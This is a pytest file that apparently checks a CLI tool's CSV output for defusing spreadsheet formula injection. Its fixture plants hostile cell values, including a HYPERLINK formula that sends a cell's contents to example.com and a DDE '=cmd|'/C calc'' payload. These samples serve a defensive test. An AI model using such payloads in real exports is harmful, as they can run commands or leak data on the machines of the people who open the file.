"""CSV that commands write: no text is a formula for a spreadsheet, unless cells are raw."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as parquet
import pytest

TITLE = '=HYPERLINK("http://example.com?"&A1,"tea")'
BODY = "@SUM(1)+tea\n\nThe rest.\n"


@pytest.fixture
def hostile(qmd, tmp_path):
    """An index with formulas in names, a title, a body and a context."""
    root = tmp_path / "hostile"
    root.mkdir()
    (root / "+1.md").write_text(f"---\ntitle: '{TITLE}'\n---\n{BODY}")
    (root / "-two.md").write_text(BODY)
    assert qmd("collection", "add", root, "--name", "=n")[0] == 0
    assert qmd("context", "add", "qmd://=n/", "=cmd|'/C calc'!A0")[0] == 0

    def rows(*command):
        code, out, err = qmd(*command)
        assert (code, err) == (0, "")
        return list(csv.reader(io.StringIO(out, newline="")))

    return rows


@pytest.mark.parametrize(
    "command",
    [
        ["search", "tea", "--csv"],
        ["search", "tea", "--format", "csv", "--full", "--full-path"],
        ["query", "lex: tea", "--csv", "--full"],
        ["search", "tea", "--files"],
        ["get", "=n/+1.md", "--csv"],
        ["get", "=n/+1.md", "--files"],
        ["multi-get", "*.md", "--csv"],
        ["multi-get", "*.md", "--format=files"],
        ["sql", "--csv", 'select file as "=file", title, body from documents order by file'],
    ],
)
def test_each_command_defuses_its_csv_and_has_a_switch_for_raw_cells(hostile, command):
    rows, raw = hostile(*command), hostile(*command, "--raw-csv")
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    as_they_are = [cell for row in raw for cell in row]
    formulas = [cell for cell in as_they_are if cell.startswith(("=", "+", "-", "@"))]
    assert formulas
    assert cells == [f"'{cell}" if cell in formulas else cell for cell in as_they_are]


def test_vsearch_has_the_switch(qmd):
    assert "--raw-csv" in qmd("vsearch", "--help")[1]


def test_values_of_sql_are_defused_by_their_type(hostile):
    query = """
        select -5 as "=n", '-inf'::double as "-d", -1.50::decimal(4, 2) as "@e", '-5' as s,
            '=1+1' as f, '=x'::blob as b, ['-1'] as l, interval (-3) day as i, '-1'::json as j,
            '+x'::enum('+x') as u, null as nothing
    """
    header, row = hostile("sql", "--csv", query)
    assert header[:4] == ["'=n", "'-d", "'@e", "s"]
    assert row == ["-5", "-inf", "-1.50", "-5", "'=1+1", "'=x", "[-1]", "'-3 days", "-1", "'+x", ""]


def test_a_file_of_sql_is_defused_and_only_a_file_of_csv(hostile, qmd, tmp_path):
    query = "select '=1+1' as \"@x\", -1 as y"
    csv_file, raw = tmp_path / "a.csv", tmp_path / "raw.csv"
    assert qmd("sql", query, "-o", csv_file) == (0, "", "")
    assert csv_file.read_text() == "'@x,y\n'=1+1,-1\n"
    assert qmd("sql", query, "-o", raw, "--raw-csv") == (0, "", "")
    assert raw.read_text() == "@x,y\n=1+1,-1\n"
    assert qmd("sql", query, "-o", tmp_path / "a.parquet") == (0, "", "")
    assert parquet.read_table(tmp_path / "a.parquet").to_pylist() == [{"@x": "=1+1", "y": -1}]
    assert json.loads(qmd("sql", query, "--json")[1]) == [{"@x": "=1+1", "y": -1}]
